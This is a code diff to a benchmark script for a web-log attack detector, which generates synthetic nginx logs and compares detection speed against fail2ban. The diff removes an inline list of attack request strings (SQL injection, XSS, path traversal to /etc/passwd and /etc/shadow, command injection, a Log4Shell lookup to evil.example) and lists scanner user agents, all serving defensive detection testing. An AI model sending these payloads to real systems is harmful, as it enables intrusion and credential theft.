@@ -28,6 +28,7 @@ from __future__ import annotations
 import argparse
 import os
 import random
+import resource
 import shutil
 import subprocess
 import sys
@@ -39,6 +40,7 @@ sys.path.insert(0, ROOT)
 
 from engine.detect import packs, patterns, settings  # noqa: E402
 from engine.detect.sink import DetectSink  # noqa: E402
+from tests.unit.detect.corpus import ATTACKS  # noqa: E402
 
 SETTINGS = {
     "format": "nginx",
@@ -89,37 +91,6 @@ WORDS = [
     "naïve",
 ]
 WORDS += ["+", "&", "=", "%"]
-ATTACKS = [
-    "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
-    "/item?id=1+union+all+select+null,null,version()--",
-    "/item?id=1%2527%20OR%20%25271%2527%3D%25271",
-    "/login?user=admin%27--&pass=x",
-    "/products?cat=2;DROP TABLE users",
-    "/api/v1/user?id=1%20AND%20SLEEP(5)",
-    "/q?s=1'%20and%20extractvalue(1,concat(0x7e,version()))--",
-    "/x?id=1%20and%201=1",
-    "/page?x=information_schema.tables",
-    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
-    "/comment?text=<img src=x onerror=alert(1)>",
-    "/r?next=javascript:alert(1)",
-    "/p?q=%253Csvg%2Fonload%253Dalert(1)%253E",
-    "/download?file=../../../../etc/passwd",
-    "/static/..%2f..%2f..%2fetc%2fshadow",
-    "/view?page=....//....//etc/passwd",
-    "/img?f=..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
-    "/file?name=report.pdf%00.jpg",
-    "/ping?host=127.0.0.1;cat%20/etc/passwd",
-    "/cgi?cmd=|id",
-    "/run?x=$(whoami)",
-    "/api?q=${jndi:ldap://evil.example/a}",
-    "/exec?c=%60uname%20-a%60",
-    "/.env",
-    "/.git/config",
-    "/wp-config.php.bak",
-    "/phpmyadmin/index.php",
-    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-    "/cgi-bin/luci",
-]
 SCANNER_UAS = [
     "sqlmap/1.7.2#stable (https://sqlmap.org)",
     "Mozilla/5.00 (Nikto/2.5.0)",
@@ -127,6 +98,9 @@ SCANNER_UAS = [
     "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
     "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
 ]
+
+
+ATTACK_TARGETS = [t for targets in ATTACKS.values() for t in targets]
 
 
 def benign_target(r: random.Random) -> tuple[str, str]:
@@ -196,7 +170,7 @@ def generate(path: str, n: int, seed: int = 7) -> int:
                 if r.random() < 0.15:
                     target, ua, status = benign_target(r)[0], r.choice(SCANNER_UAS), "404"
                 else:
-                    target, ua = r.choice(ATTACKS), r.choice(uas[:30])
+                    target, ua = r.choice(ATTACK_TARGETS), r.choice(uas[:30])
                     status = r.choice(("400", "403", "404", "200", "500"))
             else:
                 ip = (
@@ -264,59 +238,47 @@ def quality(path: str, sink: DetectSink) -> tuple[int, int, int, int]:
     return a, ah, b, bh
 
 
-def fail2ban(path: str, lines: int) -> None:
+def fail2ban(path: str, lines: int, ours: float) -> None:
+    """fail2ban-regex on the same file, CPU time of the child (as ours is CPU time)."""
     exe = os.environ.get("FAIL2BAN_REGEX") or shutil.which("fail2ban-regex")
     if not exe:
         print(
             "fail2ban-regex: the baseline is not installed (apt install fail2ban, or "
-            "FAIL2BAN_REGEX=path/to/fail2ban-regex)"
+            "FAIL2BAN_REGEX=path/to/fail2ban-regex FAIL2BAN_FILTERS=path/to/filter.d)"
         )
         return
-    conf = os.path.join(os.path.dirname(os.path.dirname(exe)), "..", "etc", "fail2ban", "filter.d")
-    conf = conf if os.path.isdir(conf) else "/etc/fail2ban/filter.d"
+    filters = os.environ.get("FAIL2BAN_FILTERS", "/etc/fail2ban/filter.d")
+    # the same URL regexes as this pack, as fail2ban failregex lines (no URL decoding:
+    # fail2ban has none, so it also finds fewer of the encoded attacks)
     url_regexes = [
         p.regex for ps in packs.PACKS.values() for p in ps if p.field == "url" and p.regex
     ]
     custom = os.path.join(os.path.dirname(path), "vigil-pack.conf")
-    with open(custom, "w") as f:
-        f.write(
-            "[Definition]\nfailregex = "
-            + "\n            ".join(
-                '^<HOST> \\S+ \\S+ \\[\\] "[A-Z]+ [^"]*(?i:' + rx.replace("%", "%%") + ")"
-                for rx in url_regexes
-            )
-            + "\ndatepattern = ^[^\\[]*\\[({DATE})\n"
-        )
+    with open(custom, "w", encoding="utf-8") as f:
+        rules = [
+            '^<HOST> \\S+ \\S+ \\[\\] "[A-Z]+ [^"]*(?i:' + rx.replace("%", "%%") + ")"
+            for rx in url_regexes
+        ]
+        f.write("[Definition]\nfailregex = " + "\n            ".join(rules) + "\n")
+        f.write("datepattern = ^[^\\[]*\\[({DATE})\n")
     for name, filt in (
-        ("nginx-botsearch", os.path.join(conf, "nginx-botsearch.conf")),
-        ("this pack's URL regexes", custom),
+        ("nginx-botsearch, 1 regex", os.path.join(filters, "nginx-botsearch.conf")),
+        (f"this pack's {len(rules)} URL regexes", custom),
     ):
-        t0 = time.monotonic()
-        proc = subprocess.run(
-            [
-                sys.executable if exe.endswith(".py") else exe,
-                *([exe] if exe.endswith(".py") else []),
-                path,
-                filt,
-            ],
-            capture_output=True,
-            text=True,
-            timeout=3600,
+        before = resource.getrusage(resource.RUSAGE_CHILDREN)
+        proc = subprocess.run([exe, path, filt], capture_output=True, text=True, timeout=7200)
+        after = resource.getrusage(resource.RUSAGE_CHILDREN)
+        cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
+        summary = next(
+            (ln.strip() for ln in proc.stdout.splitlines() if ln.startswith("Lines:")),
+            f"exit {proc.returncode}: {proc.stderr.strip()[-200:]}",
         )
-        took = time.monotonic() - t0
-        matched = next(
-            (ln.strip() for ln in proc.stdout.splitlines() if ln.startswith("Lines:")), "?"
-        )
-        print(f"fail2ban-regex ({name}): {took:.1f} s wall, {lines / took:,.0f} lines/s; {matched}")
-        yield_ratio = lines / took
-        print(f"  vigil detect / fail2ban-regex: {RATE / yield_ratio:.1f}x")
-
-
-RATE = 0.0
+        rate = lines / cpu
+        print(f"fail2ban-regex ({name}): {cpu:.1f} s CPU, {rate:,.0f} lines/s; {summary}")
+        print(f"  vigil detect (full pack) / fail2ban-regex: {ours / rate:.1f}x")
 
 
 def main() -> None:
-    global RATE
     ap = argparse.ArgumentParser()
     ap.add_argument("--lines", type=int, default=1_000_000)
     ap.add_argument("--keep", help="write the generated log here and keep it")
@@ -329,7 +291,7 @@ def main() -> None:
         mib = os.path.getsize(path) / 2**20
         sink = DetectSink(settings.parse(SETTINGS))
         cpu, total, done = run(path, sink)
-        RATE = done / cpu
+        rate = done / cpu
         print(
             f"log: {done:,} lines, {mib:.0f} MiB, {attacks:,} attack lines; "
             f"{len(sink.settings.patterns)} patterns in {len(sink.settings.packs)} packs, "
@@ -337,8 +299,8 @@ def main() -> None:
         )
         print(
             f"vigil detect (parse + patterns + windows + values): {cpu:.2f} s CPU, "
-            f"{RATE:,.0f} lines/s on one core "
-            f"(target >= 100,000: {'met' if RATE >= 100_000 else f'missed by {100_000 / RATE:.2f}x'})"
+            f"{rate:,.0f} lines/s on one core "
+            f"(target >= 100,000: {'met' if rate >= 100_000 else f'missed by {100_000 / rate:.2f}x'})"
         )
         print(
             f"  with reading the file and splitting lines too: {total:.2f} s CPU, "
@@ -354,7 +316,7 @@ def main() -> None:
             f"benign lines hit: {bh:,}/{b:,} ({100 * bh / max(b, 1):.3f} %)"
         )
         if not args.no_baseline:
-            fail2ban(path, done)
+            fail2ban(path, done, rate)
     finally:
         shutil.rmtree(tmp, ignore_errors=True)
 
